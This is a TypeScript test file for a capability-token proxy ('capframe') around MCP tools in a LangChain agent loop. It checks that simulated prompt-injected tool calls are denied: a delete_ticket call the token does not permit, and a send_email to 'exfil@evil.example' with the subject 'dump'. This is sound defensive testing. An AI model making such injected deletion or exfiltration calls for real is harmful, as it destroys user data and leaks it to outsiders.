/** A real createAgent loop (fakeModel) using MCP tools loaded by @langchain/mcp-adapters through the signing client proxy. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AIMessage, createAgent, fakeModel, type ToolMessage } from 'langchain';
import { loadMcpTools } from '@langchain/mcp-adapters';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { withCapframe } from '../../src/mcp/index.ts';
import { agentKey, agentToken, connectInMemory, ticketsServer, type Effects } from './fixtures.ts';
import { serveHttp } from '../../examples/mcp/http.ts';

type Call = { name: string; args: Record<string, unknown>; id?: string };

async function runAgent(tools: unknown[], calls: Call[]): Promise<ToolMessage[]> {
  const model = fakeModel().respondWithTools(calls).respond(new AIMessage('done'));
  const agent = createAgent({ model, tools: tools as never });
  const out = await agent.invoke({ messages: [{ role: 'user', content: 'triage ticket 7' }] });
  assert.equal(out.messages[out.messages.length - 1]!.content, 'done', 'the loop finished');
  return out.messages.filter((m: { getType(): string }) => m.getType() === 'tool') as ToolMessage[];
}

test('createAgent over MCP (in memory): allowed calls run, one injected call is denied with its code, the loop goes on', async () => {
  const { server, effects, events } = ticketsServer();
  const client = await connectInMemory(server);
  const token = agentToken();
  const tools = await loadMcpTools('tickets', withCapframe(client, { token, holderKey: agentKey }));
  assert.ok(tools.some((t) => t.name === 'delete_ticket'));
  // The tool schemas the model sees say nothing of capframe.
  for (const t of tools) assert.ok(!JSON.stringify(t.schema).includes('capframe'));

  const msgs = await runAgent(tools, [
    { name: 'read_ticket', args: { id: '7' }, id: 'c1' },
    { name: 'delete_ticket', args: { id: '7' }, id: 'c2' }, // injected: the token has no delete
    { name: 'update_ticket', args: { id: '7', status: 'triaged' }, id: 'c3' },
  ]);
  assert.deepEqual(
    msgs.map((m) => m.status),
    ['success', 'error', 'success'],
  );
  assert.match(String(msgs[1]!.content), /ERR_SCOPE_PERMISSION/);
  assert.deepEqual(
    effects.map((e) => e.tool),
    ['read_ticket', 'update_ticket'],
  );
  assert.deepEqual(
    events.map((e) => e.code),
    ['OK', 'ERR_SCOPE_PERMISSION', 'OK'],
  );
  // Neither the token nor a proof reached the model's messages.
  for (const m of msgs) assert.ok(!String(m.content).includes('cft1.') && !String(m.content).includes('cfi1.'));
  await client.close();
});

test('createAgent over Streamable HTTP on 127.0.0.1 with the adapters', async () => {
  const effects: Effects = [];
  const http = await serveHttp(() => ticketsServer({}, effects).server);
  const client = new Client({ name: 'agent', version: '1.0.0' });
  try {
    await client.connect(new StreamableHTTPClientTransport(http.url));
    const tools = await loadMcpTools('tickets', withCapframe(client, { token: agentToken(), holderKey: agentKey }));
    const msgs = await runAgent(tools, [
      { name: 'send_email', args: { to: 'exfil@evil.example', subject: 'dump' }, id: 'c1' }, // injected: outside the token's constraint
      { name: 'send_email', args: { to: 'bob@acme.example', subject: 'update' }, id: 'c2' },
    ]);
    assert.deepEqual(
      msgs.map((m) => m.status),
      ['error', 'success'],
    );
    assert.match(String(msgs[0]!.content), /ERR_CONSTRAINT/);
    assert.deepEqual(effects, [{ tool: 'send_email', args: { to: 'bob@acme.example', subject: 'update' } }]);
  } finally {
    await client.close();
    await http.close();
  }
});
